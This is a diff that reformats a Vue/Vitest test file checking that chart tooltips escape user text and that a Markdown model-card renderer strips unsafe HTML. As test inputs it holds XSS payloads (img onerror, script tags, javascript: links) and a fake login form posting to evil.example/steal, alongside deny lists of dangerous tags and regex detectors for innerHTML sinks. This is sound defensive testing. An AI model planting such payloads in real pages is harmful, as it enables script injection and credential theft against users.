@@ -20,7 +20,15 @@ import UsageCharts from '@/views/gateway/UsageCharts.vue'
 
 vi.mock('vue-echarts', async () => {
   const { defineComponent, h } = await import('vue')
-  return { default: defineComponent({ name: 'VChart', props: { option: Object }, render() { return h('div', { class: 'chart-stub' }) } }) }
+  return {
+    default: defineComponent({
+      name: 'VChart',
+      props: { option: Object },
+      render() {
+        return h('div', { class: 'chart-stub' })
+      },
+    }),
+  }
 })
 
 // jsdom has no canvas: the real ECharts draws on SVG here; its tooltips are HTML as in the browser.
@@ -48,9 +56,15 @@ async function tooltips(option: object): Promise<string[]> {
   for (const [seriesIndex, s] of series.entries()) {
     if (s.type === 'parallel') {
       // Parallel lines have no showTip by index: hover each line's shape, as the mouse does.
-      const zr = chart.getZr() as unknown as { storage: { getDisplayList(all: boolean): object[] }; handler: { trigger(name: string, e: object): void } }
-      const lines = zr.storage.getDisplayList(true).filter((e) => getECData(e as never).seriesIndex === seriesIndex
-        && getECData(e as never).dataIndex !== undefined)
+      const zr = chart.getZr() as unknown as {
+        storage: { getDisplayList(all: boolean): object[] }
+        handler: { trigger(name: string, e: object): void }
+      }
+      const lines = zr.storage
+        .getDisplayList(true)
+        .filter(
+          (e) => getECData(e as never).seriesIndex === seriesIndex && getECData(e as never).dataIndex !== undefined,
+        )
       for (const target of lines) {
         zr.handler.trigger('mousemove', { target, topTarget: target, offsetX: 100, offsetY: 100, event: {}, stop() {} })
         await new Promise((r) => setTimeout(r, 0))
@@ -74,15 +88,33 @@ function expectInert(html: string[]) {
 }
 
 const run = (id: string, name: string, params: Record<string, string> = {}, loss = 1): Run => ({
-  id, experiment_id: 'e', experiment_name: 'exp', team_id: 't', name, status: 'FINISHED', start_time: '2026-01-01T00:00:00Z',
-  end_time: null, params, tags: {}, metrics: { [XSS]: { value: loss, step: 1, timestamp: 0 } }, job_id: null,
-  model_version_id: null, base_model_version_id: null, dataset_version_ids: [], created_by: null, user_name: null,
-  lifecycle: 'active', created_at: '2026-01-01T00:00:00Z', updated_at: '2026-01-01T00:00:00Z',
+  id,
+  experiment_id: 'e',
+  experiment_name: 'exp',
+  team_id: 't',
+  name,
+  status: 'FINISHED',
+  start_time: '2026-01-01T00:00:00Z',
+  end_time: null,
+  params,
+  tags: {},
+  metrics: { [XSS]: { value: loss, step: 1, timestamp: 0 } },
+  job_id: null,
+  model_version_id: null,
+  base_model_version_id: null,
+  dataset_version_ids: [],
+  created_by: null,
+  user_name: null,
+  lifecycle: 'active',
+  created_at: '2026-01-01T00:00:00Z',
+  updated_at: '2026-01-01T00:00:00Z',
 })
 
 describe('escapeHtml', () => {
   it('escapes the five characters that matter in HTML text and attributes', () => {
-    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe('&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;')
+    expect(escapeHtml(`<a href="x" title='y'>&</a>`)).toBe(
+      '&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;&lt;/a&gt;',
+    )
     expect(escapeHtml(XSS)).toBe('&lt;img src=x onerror=&quot;window.__xss=1&quot;&gt;')
     expect(escapeHtml(null)).toBe('')
     expect(escapeHtml(0.5)).toBe('0.5')
@@ -91,10 +123,15 @@ describe('escapeHtml', () => {
 
 describe('chart tooltips escape what users wrote', () => {
   it('sweeps: the metric name in the trial tooltip', async () => {
-    const trials = [{ job_id: 'j1', value: 0.5 }, { job_id: 'j2', value: 0.25 }] as Parameters<typeof valueChart>[0]
+    const trials = [
+      { job_id: 'j1', value: 0.5 },
+      { job_id: 'j2', value: 0.25 },
+    ] as Parameters<typeof valueChart>[0]
     const option = valueChart(trials, 'j2', XSS, { point: '#111', best: '#222' })
     const formatter = option.tooltip.formatter as (p: { data: { value: [number, number] } }) => string
-    expect(formatter({ data: { value: [1, 0.5] } })).toBe('#1: &lt;img src=x onerror=&quot;window.__xss=1&quot;&gt; 0.5')
+    expect(formatter({ data: { value: [1, 0.5] } })).toBe(
+      '#1: &lt;img src=x onerror=&quot;window.__xss=1&quot;&gt; 0.5',
+    )
     expectInert(await tooltips(option))
   })
 
@@ -109,9 +146,23 @@ describe('chart tooltips escape what users wrote', () => {
   })
 
   it('gateway usage: route, model, user and key names in every usage chart', async () => {
-    const point = (group: string) => ({ group, requests: 3, errors: 0, prompt_tokens: 10, completion_tokens: 5, cost: 0.25,
-      p50_ms: 100, p95_ms: 200, cache_hits: 0 })
-    const usage: Usage = { bucket: 'hour', group_by: 'model', series: [{ ...point(XSS), ts: '2026-03-01T08:00:00Z' }], totals: [point(XSS)] }
+    const point = (group: string) => ({
+      group,
+      requests: 3,
+      errors: 0,
+      prompt_tokens: 10,
+      completion_tokens: 5,
+      cost: 0.25,
+      p50_ms: 100,
+      p95_ms: 200,
+      cache_hits: 0,
+    })
+    const usage: Usage = {
+      bucket: 'hour',
+      group_by: 'model',
+      series: [{ ...point(XSS), ts: '2026-03-01T08:00:00Z' }],
+      totals: [point(XSS)],
+    }
     const wrapper = mount(UsageCharts, {
       props: { usage, since: '2026-03-01T08:00:00Z', until: '2026-03-01T09:00:00Z' },
       global: { plugins: [i18n, createVuetify({ components, directives })] },
@@ -128,16 +179,23 @@ describe('chart tooltips escape what users wrote', () => {
 })
 
 describe('no page builds HTML from user text unescaped', () => {
-  const sources = import.meta.glob('/src/**/*.{ts,vue}', { query: '?raw', import: 'default', eager: true }) as Record<string, string>
+  const sources = import.meta.glob('/src/**/*.{ts,vue}', { query: '?raw', import: 'default', eager: true }) as Record<
+    string,
+    string
+  >
 
   it('every tooltip formatter function escapes (ECharts puts its result in innerHTML)', () => {
-    const custom = Object.entries(sources).filter(([, code]) => /tooltip:\s*\{[^}]*\bformatter:\s*(\(|function|[a-z]\w*\s*=>)/.test(code))
+    const custom = Object.entries(sources).filter(([, code]) =>
+      /tooltip:\s*\{[^}]*\bformatter:\s*(\(|function|[a-z]\w*\s*=>)/.test(code),
+    )
     expect(custom.map(([file]) => file)).toContain('/src/views/training/sweeps.ts')
     for (const [file, code] of custom) expect(code, file).toContain('escapeHtml(')
   })
 
   it('v-html and innerHTML only in the Markdown view, which sanitises', () => {
-    const raw = Object.entries(sources).filter(([, code]) => /v-html|innerHTML|outerHTML|insertAdjacentHTML|document\.write/.test(code))
+    const raw = Object.entries(sources).filter(([, code]) =>
+      /v-html|innerHTML|outerHTML|insertAdjacentHTML|document\.write/.test(code),
+    )
     expect(raw.map(([file]) => file)).toEqual(['/src/components/MarkdownView.vue'])
     expect(sources['/src/components/MarkdownView.vue']).toContain('renderMarkdown(')
   })
@@ -145,9 +203,22 @@ describe('no page builds HTML from user text unescaped', () => {
 
 describe('model cards', () => {
   it('keep what Markdown makes: headings, lists, code, tables, quotes, links and http(s) images', () => {
-    const html = renderMarkdown('# Title\n\n- a *b* **c**\n\n```\ncode\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n> q\n\n'
-      + '[docs](https://example.com/docs) ![logo](https://example.com/l.png)\n\n---\n')
-    for (const tag of ['<h1>', '<li>', '<em>', '<strong>', '<pre>', '<code>', '<table>', '<td>', '<blockquote>', '<hr>']) {
+    const html = renderMarkdown(
+      '# Title\n\n- a *b* **c**\n\n```\ncode\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n> q\n\n' +
+        '[docs](https://example.com/docs) ![logo](https://example.com/l.png)\n\n---\n',
+    )
+    for (const tag of [
+      '<h1>',
+      '<li>',
+      '<em>',
+      '<strong>',
+      '<pre>',
+      '<code>',
+      '<table>',
+      '<td>',
+      '<blockquote>',
+      '<hr>',
+    ]) {
       expect(html).toContain(tag)
     }
     expect(html).toContain('<a href="https://example.com/docs" target="_blank" rel="noopener noreferrer">docs</a>')
@@ -155,16 +226,36 @@ describe('model cards', () => {
   })
 
   it('drop styles, forms, scripts, frames, handlers, ids, classes and unsafe URLs', () => {
-    const html = renderMarkdown([
-      '<style>body { display: none }</style>',
-      '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
-      '<script>window.__xss = 1</script>', '<iframe src="https://evil.example"></iframe>',
-      '<img src=x onerror="window.__xss=1">', '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
-      '<p id="app" class="v-overlay" style="position:fixed">overlay</p>', '<svg><a href="javascript:alert(1)">s</a></svg>',
-      '[click](javascript:alert(1)) [mail](mailto:a@example.com) <a href="https://ok.example" target="_top">ok</a>',
-    ].join('\n\n'))
-    for (const bad of ['<style', '<form', '<input', '<button', '<script', '<iframe', 'onerror', 'data:', '<svg', 'javascript:',
-      'id=', 'class=', 'style=', 'action=', '_top']) {
+    const html = renderMarkdown(
+      [
+        '<style>body { display: none }</style>',
+        '<form action="https://evil.example/steal"><input name="password"><button>Sign in</button></form>',
+        '<script>window.__xss = 1</script>',
+        '<iframe src="https://evil.example"></iframe>',
+        '<img src=x onerror="window.__xss=1">',
+        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+        '<p id="app" class="v-overlay" style="position:fixed">overlay</p>',
+        '<svg><a href="javascript:alert(1)">s</a></svg>',
+        '[click](javascript:alert(1)) [mail](mailto:a@example.com) <a href="https://ok.example" target="_top">ok</a>',
+      ].join('\n\n'),
+    )
+    for (const bad of [
+      '<style',
+      '<form',
+      '<input',
+      '<button',
+      '<script',
+      '<iframe',
+      'onerror',
+      'data:',
+      '<svg',
+      'javascript:',
+      'id=',
+      'class=',
+      'style=',
+      'action=',
+      '_top',
+    ]) {
       expect(html).not.toContain(bad)
     }
     expect(html).toContain('overlay')
